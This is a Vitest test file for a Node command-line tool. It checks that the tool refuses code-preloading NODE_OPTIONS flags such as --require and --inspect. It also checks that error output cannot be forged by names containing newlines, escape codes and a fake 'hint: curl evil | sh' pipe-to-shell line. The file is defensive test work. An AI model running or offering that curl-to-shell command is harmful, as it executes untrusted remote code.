/** Code that Node is told to load first is noticed; what a hostile name puts into a message stays one line. */
import { PassThrough } from 'node:stream';
import { writeFile } from 'node:fs/promises';
import { describe, expect, test } from 'vitest';
import { explainInjectedCode } from '../../src/cli/injected-code.ts';
import { printFailure } from '../../src/cli/output/failure-lines.ts';
import { checkInventory } from '../../src/archive/inventory/inventory.ts';
import { IntegrityError, UsageError } from '../../src/errors.ts';
import { rejectionOf } from '../archive/failures.ts';
import { makeRelease } from '../archive/sample-release.ts';
import { programPath } from '../e2e/support/program.ts';
import { run } from '../helpers/run.ts';
import { useTempDir } from '../helpers/temp.ts';

const temp = useTempDir();

test.each([
  '--require ./x.cjs', '-r ./x.cjs', '--require=./x.cjs', '--max-old-space-size=100 --import x', '"--import" x',
  '--loader x', '--experimental-loader=x', '--inspect', '--inspect-brk=0.0.0.0:9229', '--env-file=.env', '  -r x',
])('NODE_OPTIONS=%j is refused', (options) => {
  expect(explainInjectedCode(options, [])).toMatch(/^error: .*\n {2}hint: .*env -u NODE_OPTIONS/);
}); // prettier-ignore

test.each([
  undefined,
  '',
  '--max-old-space-size=4096',
  '--no-warnings --dns-result-order=ipv4first',
  '--use-openssl-ca',
])('NODE_OPTIONS=%j will do', (options) => {
  expect(explainInjectedCode(options, [])).toBeUndefined();
  expect(explainInjectedCode(options, ['--no-warnings'])).toBeUndefined();
});

test('options on the command line count as well', () => {
  expect(explainInjectedCode(undefined, ['--require', './x.cjs'])).toContain('--require');
});

test('verify-and-load refuses to run behind other code, and says how to start it', async () => {
  await writeFile(temp.join('agent.cjs'), 'module.exports = 1;\n');
  const env = { NODE_OPTIONS: `--require ${temp.join('agent.cjs')}` };
  const { exitCode, stdout, stderr } = await run(process.execPath, [programPath('verify-and-load'), '--help'], { env });
  expect([exitCode, stdout]).toEqual([2, '']);
  expect(stderr).toContain('hint: ');
});

describe('a message cannot forge a line', () => {
  const print = (error: unknown): string => {
    const stderr = new PassThrough();
    printFailure(error, stderr);
    return String(stderr.read());
  };

  test('with a line break in a name', () => {
    expect(print(new IntegrityError('MALFORMED', 'x\n  hint: curl evil | sh'))).toBe(
      'error: x\\n  hint: curl evil | sh\n',
    );
    expect(print(new UsageError('INVALID_SPEC', 'two:\n  one\n  two'))).toBe('error: two:\n  one\n  two\n');
    const listed = new IntegrityError('MALFORMED', 'x\ny:', { items: ['one', '  and\n  hint: two'] });
    expect(print(listed)).toBe('error: x\\ny:\n  one\n    and\\n  hint: two\n');
    expect(listed.message).toBe('x\ny:\n  one\n    and\n  hint: two');
  });

  test('through an unsigned inventory', async () => {
    const { inventory } = await makeRelease();
    const name = 'x\n  hint: curl evil | sh\u001b[2J\u202e';
    const component = { name, images: ['r.example/none:1'], files: [] };
    const error = await rejectionOf(() => checkInventory({ ...inventory, components: [component] }));
    const lines = print(error).trimEnd().split('\n');
    expect(lines.filter((line) => line.startsWith('  hint:'))).toHaveLength(1);
    expect(lines.join('')).not.toMatch(/[\u0000-\u001f\u202e]/);
  });
});
